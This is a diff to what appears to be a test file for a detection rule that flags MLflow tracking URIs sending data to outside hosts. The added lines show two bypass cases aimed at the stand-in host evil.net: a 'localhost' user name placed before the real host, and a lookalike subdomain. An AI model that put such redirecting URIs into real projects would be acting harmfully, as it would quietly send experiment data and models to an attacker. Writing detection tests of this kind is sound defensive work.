@@ -17,6 +17,11 @@ def setup_tracking(cfg):
     mlflow.set_tracking_uri("http://203.0.113.7:5000")
     # ruleid: egress-tracker-redirect
     mlflow.set_registry_uri(RELAY)
+    # a loopback user name in front of the real host: it sends to evil.net
+    # ruleid: egress-tracker-redirect
+    mlflow.set_tracking_uri("http://localhost:5000@mlflow.evil.net")
+    # ruleid: egress-tracker-redirect
+    mlflow.set_tracking_uri("http://localhost.evil.net:5000")
     # ruleid: egress-tracker-redirect
     client = MlflowClient(tracking_uri="https://mlflow.metrics-relay.net")
     # ruleid: egress-tracker-redirect
